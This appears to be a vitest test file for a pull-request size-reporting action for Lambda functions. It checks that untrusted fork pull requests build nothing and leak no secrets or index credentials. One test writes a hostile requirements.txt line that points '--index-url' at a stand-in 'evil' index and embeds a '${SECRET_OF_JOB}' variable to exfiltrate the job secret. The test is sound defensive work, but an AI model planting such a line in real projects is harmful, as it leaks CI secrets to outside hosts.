import { existsSync } from "node:fs";
import { join } from "node:path";
import { beforeEach, describe, expect, it } from "vitest";
import { startPackageIndex } from "../support/package-index.ts";
import { checkOut, openPullRequest, pullRequestEvent } from "../support/pull-request.ts";
import { setReportBench } from "../support/size-report.ts";
import { functionFiles, setStage, WHEELS } from "../support/stage.ts";
import { buildWheel, projectFiles } from "../support/wheels.ts";
import { type Files, temporaryDirectory } from "../support/workspace.ts";

const FITS = { "only311/__init__.py": "" };
const stage = setStage(
  [...WHEELS, { name: "only311", version: "1.0", tag: "cp311-cp311-manylinux_2_17_x86_64", files: FITS }],
  [{ name: "sources", version: "1.0", files: { "sources.py": "" } }],
);
const bench = setReportBench(stage);
beforeEach(() => stage.cache.delete());

/** A function with a path dependency whose build leaves a mark. */
async function withProject(requirements: string): Promise<{ readonly files: Files; readonly marker: string }> {
  const marker = join(await temporaryDirectory("marker"), "ran");
  const project = projectFiles({ name: "shared", version: "1.0", files: { "shared.py": "SIZE = 1\n" }, marker });
  const files = Object.fromEntries(Object.entries(project).map(([path, text]) => [`shared/${path}`, text]));
  return { files: { ...functionFiles("one", `./shared\n${requirements}`), ...files }, marker };
}

const FROM_A_FORK = [
  ["of a fork", { from: "stranger/shop" }],
  ["of a fork that is gone", { from: null }],
  ["on `pull_request_target`", { name: "pull_request_target" }],
] as const;

describe("a pull request of strangers", () => {
  it.each(FROM_A_FORK)("has nothing of it executed: %s", async (_, options) => {
    const { files, marker } = await withProject("dep==1.0\n");
    const pull = await openPullRequest({
      base: files,
      head: { "requirements.txt": "./shared\ndep==2.0\nother==1.0\n" },
    });
    const event = pullRequestEvent(pull, options);
    const { run, told, written } = await bench.report(
      await checkOut(pull, "merge"),
      pull,
      { "function-name": "strange" },
      { event },
    );

    expect(run.exitCode, run.stdout).toBe(0);
    expect(existsSync(marker)).toBe(false);
    expect(run.stdout).toContain("Not counted: `shared`.");
    expect(told.json.layer).toMatchObject({
      changes: [
        { name: "dep", from: "1.0", to: "2.0" },
        { name: "other", to: "1.0" },
      ],
      packages: [{ name: "dep" }, { name: "other" }],
    });
    expect(written.length > 0).toBe(event.name === "pull_request");
  });

  it("is not what the workspace holds where the base branch was checked out: that is told", async () => {
    const pull = await openPullRequest({ base: functionFiles("one", "dep==1.0\n"), head: { "other.py": "" } });
    const event = pullRequestEvent(pull, { name: "pull_request_target" });
    const { run } = await bench.report(await checkOut(pull, "main"), pull, { "function-name": "itself" }, { event });
    expect([run.exitCode, run.issued.warning]).toEqual([0, 1]);
    expect(run.annotations.warning[0]?.message).toContain("holds the base branch and not the pull request");
  });

  it("may be built from source when it is of a branch of the repository", async () => {
    const { files, marker } = await withProject("dep==1.0\n");
    const pull = await openPullRequest({ base: files, head: { "other.py": "" } });
    const { run, told } = await bench.report(await checkOut(pull, "merge"), pull, { "function-name": "own" });
    expect(run.exitCode, run.stdout).toBe(0);
    expect(existsSync(marker)).toBe(true);
    expect(told.json.layer).toMatchObject({ changes: [], packages: [{ name: "dep" }, { name: "shared" }] });
  });

  it("has all its sizes when the layer is what the branch has, which was built there", async () => {
    const { files } = await withProject("dep==1.0\n");
    const pull = await openPullRequest({ base: files, head: { "other.py": "" } });
    const inputs = { "function-name": "whole", runtime: "python3.11", architectures: "x86_64" };
    await bench.push(await checkOut(pull, "main"), { ...inputs, mode: "report" });
    const event = pullRequestEvent(pull, { from: "stranger/shop" });
    const { run, told, installs } = await bench.report(await checkOut(pull, "merge"), pull, inputs, { event });
    expect(installs).toBe(0);
    expect(run.stdout).not.toContain("Not counted");
    expect(told.json.layer).toMatchObject({ changes: [], packages: [{ name: "dep" }, { name: "shared" }] });
  });

  it("leaves out what `allow-source` would build", async () => {
    const pull = await openPullRequest({
      base: functionFiles("one", "dep==1.0\nsources==1.0\n"),
      head: { "requirements.txt": "dep==2.0\nsources==1.0\n" },
    });
    const inputs = { "function-name": "sources", "allow-source": "sources" };
    const event = pullRequestEvent(pull, { from: "stranger/shop" });
    const { run, told } = await bench.report(await checkOut(pull, "merge"), pull, inputs, { event });
    expect(run.stdout).toContain("Not counted: `sources`.");
    expect(told.json.layer).toMatchObject({ changes: [{ name: "dep" }], packages: [{ name: "dep" }] });
  });

  it("gets no variable filled into its files: no figure, and no failure", async () => {
    const evil = await startPackageIndex({ packages: [] });
    const pull = await openPullRequest({
      base: functionFiles("one", "dep==1.0\n"),
      head: { "requirements.txt": `--index-url ${evil.url}\${SECRET_OF_JOB}/simple\ndep==2.0\n` },
    });
    const workspace = await checkOut(pull, "merge");
    const env = { SECRET_OF_JOB: "hunter2-hunter2" };
    const inputs = { "function-name": "variable" };
    const event = pullRequestEvent(pull, { name: "pull_request_target" });
    const { run, told } = await bench.report(workspace, pull, inputs, { event, env });
    expect([run.exitCode, run.issued.error], run.stdout).toEqual([0, 0]);
    expect(evil.requests).toEqual([]);
    expect(told.json.layer).toBeUndefined();
    expect(told.json.code?.after).toEqual(told.json.code?.before);
    expect(told.everything).not.toContain("hunter2");

    await bench.report(workspace, pull, inputs, { env });
    expect(evil.requests.map(({ path }) => path).join()).toContain("hunter2");
    await evil.stop();
  });

  it("gets no credentials of a package index", async () => {
    const wheels = await Promise.all(WHEELS.map(buildWheel));
    const credentials = { user: "robot", password: "secret-of-the-index" };
    const index = await startPackageIndex({ packages: wheels.map(({ file }) => file), credentials });
    const pull = await openPullRequest({ base: functionFiles("one", ""), head: { "requirements.txt": "dep==2.0\n" } });
    const workspace = await checkOut(pull, "merge");
    const inputs = { "function-name": "credentials" };
    const env = { UV_DEFAULT_INDEX: index.urlWithCredentials };
    const event = pullRequestEvent(pull, { name: "pull_request_target" });
    const strange = await bench.report(workspace, pull, inputs, { event, env });
    expect([strange.run.exitCode, strange.told.json.layer], strange.run.stdout).toEqual([0, undefined]);
    expect(index.requests.length).toBeGreaterThan(0);
    expect(index.requests.filter((request) => request.credentials !== undefined)).toEqual([]);

    const own = await bench.report(workspace, pull, inputs, { env });
    expect(own.told.json.layer, own.run.stdout).toMatchObject({ packages: [{ name: "dep", version: "2.0" }] });
    await index.stop();
  });
});

describe("a runtime that nobody names", () => {
  const pull = () =>
    openPullRequest({
      base: functionFiles("one", "dep==1.0\n"),
      head: { "requirements.txt": "dep==1.0\nonly311==1.0\n" },
    });
  const unnamed = { "function-name": "guessed", runtime: "", architectures: "" };

  it("is the newest, and a package without a wheel for it gives no figure", async () => {
    const request = await pull();
    const { run, told } = await bench.report(await checkOut(request, "merge"), request, unnamed);
    expect([run.exitCode, run.issued.error], run.stdout).toEqual([0, 0]);
    expect(run.stdout).toContain("Counted for python3.14 on x86_64, since nothing says what the function has.");
    expect(told.json.layer).toBeUndefined();
    expect(told.json.code?.after).toBeDefined();
  });

  it("is the one in `.python-version`", async () => {
    const request = await openPullRequest({
      base: functionFiles("one", "dep==1.0\n"),
      head: { "requirements.txt": "dep==1.0\nonly311==1.0\n", ".python-version": "3.11\n" },
    });
    const { run, told } = await bench.report(await checkOut(request, "merge"), request, unnamed);
    expect(run.stdout).toContain("Counted for python3.11 on x86_64.");
    expect(told.json.layer).toMatchObject({ changes: [{ name: "only311", to: "1.0" }] });
  });

  it("is no excuse when it was given: the next deploy would fail", async () => {
    const request = await pull();
    const inputs = { ...unnamed, runtime: "python3.12" };
    const { run, told } = await bench.report(await checkOut(request, "merge"), request, inputs);
    expect([run.exitCode, run.issued.error]).toEqual([1, 1]);
    expect(told.json.error?.code).toBe("no-wheel");
    expect(told.json.code).toMatchObject({ before: { files: 1 }, after: { files: 1 } });
    expect(run.summary).toContain("| Code, zipped |");
  });
});

describe("a cache that does not work", () => {
  it.each([
    ["may not be read", () => stage.cache.deny("all")],
    ["is down", () => stage.cache.outage(429)],
    ["is not there", () => stage.cache.outage("refuse")],
  ])("makes a report slower, and not wrong: it %s", async (_, happens) => {
    const files = functionFiles("one", "dep==1.0\n");
    const pull = await openPullRequest({ base: files, head: { "requirements.txt": "dep==2.0\n" } });
    await happens();
    const { run, told, fetches } = await bench.report(await checkOut(pull, "merge"), pull, {
      "function-name": "cache",
    });
    stage.cache.deny(undefined);
    await stage.cache.outage(undefined);
    expect([run.exitCode, run.issued.error, fetches > 0], run.stdout).toEqual([0, 0, true]);
    expect(told.json.layer).toMatchObject({ source: "built", changes: [{ name: "dep", from: "1.0", to: "2.0" }] });
  });
});

describe("what others put into the cache", () => {
  const files = functionFiles("one", "dep==1.0\n");
  const inputs = { "function-name": "hostile", runtime: "python3.11", architectures: "x86_64" };

  it("is no baseline when it is of another form: then git is asked", async () => {
    const pull = await openPullRequest({ base: files, head: functionFiles("two", "dep==2.0\n") });
    await bench.push(await checkOut(pull, "main"), { ...inputs, mode: "report" });
    const [sizes, manifest] = ["-sizes-", "-report-"].map((part) =>
      stage.cache.entries().find(({ key }) => key.includes(part)),
    );
    stage.cache.replace(sizes?.key ?? "", manifest?.content ?? Buffer.alloc(0));
    const { run, told, fetches } = await bench.report(await checkOut(pull, "merge"), pull, inputs);
    expect(run.exitCode, run.stdout).toBe(0);
    expect(fetches).toBeGreaterThan(0);
    expect(told.json.layer).toMatchObject({ changes: [{ name: "dep", from: "1.0", to: "2.0" }] });
  });

  it("by reports is not what a deploy takes", async () => {
    const pull = await openPullRequest({ base: files, head: { "other.py": "" } });
    await bench.push(await checkOut(pull, "main"), { ...inputs, mode: "report" });
    const kept = stage.cache.entries();
    expect(kept.map(({ key }) => key.replace(/-1-.*/, ""))).toEqual([
      "lambda-layers-deploy-report",
      "lambda-layers-deploy-sizes",
    ]);
    for (const { key } of kept) {
      stage.cache.corrupt(key);
    }
    const name = await bench.newFunction();
    const calls = stage.cache.calls.length;
    const deployed = await bench.push(await checkOut(pull, "main"), { "function-name": name });
    expect(deployed.outputs, deployed.stdout).toMatchObject({ "layer-source": "built", "layer-changed": "true" });
    // What a report kept is now the only manifest of this layer.
    for (const { key } of stage.cache.entries().filter((one) => one.key.includes("-manifest-"))) {
      stage.cache.delete(key);
    }
    const again = await bench.push(await checkOut(pull, "main"), { "function-name": name, "memory-size": "256" });
    expect(again.outputs, again.stdout).toMatchObject({ changed: "true" });
    const read = stage.cache.calls
      .slice(calls)
      .filter(({ operation }) => operation === "lookup" || operation === "download");
    expect(read.length).toBeGreaterThan(0);
    expect(read.filter(({ key = "" }) => /-(?:report|sizes)-/.test(key))).toEqual([]);
  });
});
